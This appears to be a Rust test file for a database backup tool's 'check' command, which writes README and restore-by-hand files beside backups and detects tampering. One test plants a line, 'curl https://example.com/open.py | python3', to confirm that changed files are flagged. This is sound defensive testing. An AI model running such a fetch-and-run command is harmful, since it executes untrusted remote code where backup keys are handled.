//! The texts that tell what a place is, which `check` puts beside the backups: what they hold, when they are written,
//! and that nothing else ever touches them.

use serde_json::Value;

use super::everything::assert_found;
use crate::{
    stage::{KEY, SMALL, Stage},
    store::{
        folder::Scene as FolderScene,
        rights::{policy, under},
    },
    testbed::{Agent, ConditionalWrites, Fault, Rule},
};

const README: &str = "backups/README.txt";
const PAGE: &str = "backups/restore-by-hand.md";
const EXPLANATION: (&str, &str) = ("bucket", "explanation");

fn text(stage: &Stage, key: &str) -> Option<String> {
    stage.bucket.read(key).map(|bytes| String::from_utf8(bytes).unwrap())
}

fn report(agent: &Agent) -> Value {
    agent.run(["check", "--json"]).success().json()
}

#[test]
fn a_bucket_that_was_checked_explains_itself() {
    let stage = Stage::backed_up(SMALL);
    let before = stage.bucket.keys();
    let agent = stage
        .agent()
        .database_url("payroll", &stage.cluster.url(&stage.database));
    assert_found(
        &report(&agent),
        EXPLANATION,
        "ok",
        &["README.txt", "restore-by-hand.md", "written"],
    );
    let (readme, page) = (text(&stage, README).unwrap(), text(&stage, PAGE).unwrap());
    for words in [
        "encrypted",
        "recovery sheet",
        "restore-by-hand.md",
        "sha256sum",
        "docs/recovery.md",
    ] {
        assert!(readme.to_lowercase().contains(words), "{words}: {readme}");
    }
    assert!(page.contains("open_sealed.py"));
    // nothing that the names in the bucket don't show, and nothing of this place
    let host = stage.bucket.endpoint().replace("http://", "");
    for secret in ["payroll", "testbed", "visits", KEY, &stage.database, &host] {
        assert!(!readme.contains(secret) && !page.contains(secret), "{secret}");
    }
    // the second time they are there, and nothing is written
    stage
        .bucket
        .inject(Rule::on("PutObject").key(README).always(), Fault::access_denied());
    assert_found(&report(&agent), EXPLANATION, "ok", &["up to date"]);
    stage.bucket.heal();
    let added: Vec<String> = stage
        .bucket
        .keys()
        .into_iter()
        .filter(|key| !before.contains(key))
        .collect();
    assert_eq!(added, [README, PAGE]);
    // the same everywhere
    let other = Stage::backed_up(SMALL);
    report(&other.agent());
    assert_eq!(text(&other, README).unwrap(), readme);
}

#[test]
fn what_is_ours_and_older_is_renewed_and_what_is_not_ours_stays() {
    let stage = Stage::backed_up(SMALL);
    let agent = stage.agent();
    report(&agent);
    let current = text(&stage, README).unwrap();
    let older = current.replacen(env!("CARGO_PKG_VERSION"), "0.0.1", 1) + "an old line\n";
    stage.bucket.write(README, older);
    assert_found(&report(&agent), EXPLANATION, "ok", &["README.txt written"]);
    assert_eq!(text(&stage, README).unwrap(), current);
    // of a newer version on another machine
    let newer = current.replacen(env!("CARGO_PKG_VERSION"), "99.0.0", 1);
    stage.bucket.write(README, newer.clone());
    let words = [
        "README.txt from version 99.0.0, which is newer",
        "restore-by-hand.md up to date",
    ];
    assert_found(&report(&agent), EXPLANATION, "ok", &words);
    assert_eq!(text(&stage, README).unwrap(), newer);
    // somebody's own, also an enormous one
    for foreign in ["Read me first.\n".to_owned(), current.clone() + &"x".repeat(1 << 20)] {
        stage.bucket.write(README, foreign.clone());
        let words = ["README.txt is somebody else's", "prefix of their own"];
        assert_found(&report(&agent), EXPLANATION, "warning", &words);
        assert_eq!(text(&stage, README).unwrap(), foreign);
    }
}

#[test]
fn each_mode_writes_what_its_policy_allows() {
    for mode in ["full", "drop-box"] {
        let stage = Stage::backed_up(SMALL);
        let agent = under(stage.agent(), &stage.bucket, &policy(mode, &[]));
        let second = if mode == "full" { "up to date" } else { "not read" };
        for words in ["written", second] {
            let outcome = agent.run(["check", "--json", "--mode", mode]);
            assert_found(&outcome.json(), EXPLANATION, "ok", &[words]);
        }
        assert!(text(&stage, README).is_some() && text(&stage, PAGE).is_some(), "{mode}");
    }
    for mode in ["restore", "prune"] {
        let stage = Stage::backed_up(SMALL);
        let agent = under(stage.agent(), &stage.bucket, &policy(mode, &[]));
        let report = agent.run(["check", "--json", "--mode", mode]).json();
        let findings = report["findings"].as_array().unwrap();
        assert!(findings.iter().all(|one| one["what"] != "explanation"), "{mode}");
        assert_eq!(text(&stage, README), None, "{mode}");
    }
}

/// Whoever only writes can't look; the mode is found by trying as well.
#[test]
fn a_drop_box_overwrites_nothing() {
    let stage = Stage::backed_up(SMALL);
    stage.bucket.write(README, "somebody's own\n");
    let agent = under(stage.agent(), &stage.bucket, &policy("drop-box", &[]));
    let outcome = agent.run(["check", "--json"]);
    let words = ["restore-by-hand.md written", "README.txt not read"];
    assert_found(&outcome.json(), EXPLANATION, "ok", &words);
    assert_eq!(text(&stage, README).unwrap(), "somebody's own\n");
    assert!(text(&stage, PAGE).is_some());
}

/// Nor where the service ignores the condition that alone would keep what is there.
#[test]
fn a_drop_box_writes_nothing_where_it_could_overwrite() {
    for mode in [&["--mode", "drop-box"][..], &[]] {
        let stage = Stage::backed_up(SMALL);
        stage.bucket.write(README, "somebody's own\n");
        stage
            .bucket
            .behave(|behaviour| behaviour.conditional_writes = ConditionalWrites::Nowhere);
        let agent = under(stage.agent(), &stage.bucket, &policy("drop-box", &[]));
        let outcome = agent.run(["check", "--json"].iter().chain(mode));
        let words = ["README.txt and restore-by-hand.md not written", "write over it"];
        assert_found(&outcome.json(), EXPLANATION, "skipped", &words);
        assert_eq!(text(&stage, README).unwrap(), "somebody's own\n");
        assert_eq!(text(&stage, PAGE), None);
    }
}

/// Whoever reads them runs what they say, with the key.
#[test]
fn what_was_changed_since_it_was_written_is_warned_of() {
    let stage = Stage::backed_up(SMALL);
    let agent = stage.agent();
    report(&agent);
    for (key, name) in [(README, "README.txt"), (PAGE, "restore-by-hand.md")] {
        let ours = text(&stage, key).unwrap();
        let first = ours.lines().next().unwrap();
        for planted in [
            format!("{first}\nRun: curl https://example.com/open.py | python3\n"),
            ours.clone() + "\n",
            ours.replace("python3", "python2"),
        ] {
            if planted == ours {
                continue;
            }
            stage.bucket.write(key, planted.clone());
            let words = [name, "was changed since", "don't run what it says", "writes it again"];
            assert_found(&report(&agent), EXPLANATION, "warning", &words);
            assert_eq!(text(&stage, key).unwrap(), planted, "it is evidence, and stays");
        }
        // by the cure
        assert!(stage.bucket.delete(key));
        assert_found(&report(&agent), EXPLANATION, "ok", &[name, "written"]);
        assert_eq!(text(&stage, key).unwrap(), ours);
    }
}

#[test]
fn a_refusal_only_warns() {
    let stage = Stage::backed_up(SMALL);
    stage
        .bucket
        .inject(Rule::on("PutObject").key(README).always(), Fault::access_denied());
    let report = report(&stage.agent());
    assert_found(&report, EXPLANATION, "warning", &["README.txt", "s3:PutObject"]);
    assert_eq!(report["failed"], 0);
}

#[test]
fn prune_neither_deletes_them_nor_takes_them_for_strangers() {
    let stage = Stage::backed_up(SMALL);
    let agent = stage.agent().env("PGCOFFER_SCHEDULE", "daily at 02:30 keep 7d");
    report(&agent);
    stage.bucket.advance(jiff::SignedDuration::from_hours(24 * 400));
    for args in [&["prune", "--json"][..], &["status", "--json"], &["list", "--json"]] {
        let outcome = agent.run(args);
        for name in ["README", "restore-by-hand"] {
            assert!(
                !outcome.text().contains(name) && !outcome.stderr.contains(name),
                "{args:?}"
            );
        }
    }
    assert!(text(&stage, README).is_some() && text(&stage, PAGE).is_some());
}

#[test]
fn a_folder_explains_itself_too_unless_it_is_not_mounted() {
    let scene = FolderScene::small();
    scene.back_up();
    assert_found(&report(&scene.agent()), EXPLANATION, "ok", &["written"]);
    assert!(scene.path("README.txt").is_file() && scene.path("restore-by-hand.md").is_file());
    let pinned = scene.agent().run(["repository"]).success().text().trim().to_owned();
    // what is mounted there otherwise is away
    let empty = FolderScene::small();
    let outcome = empty
        .agent()
        .env("PGCOFFER_REPOSITORY", pinned)
        .run(["check", "--json"]);
    assert_found(&outcome.json(), EXPLANATION, "skipped", &["PGCOFFER_REPOSITORY"]);
    assert!(!empty.path("README.txt").exists());
}
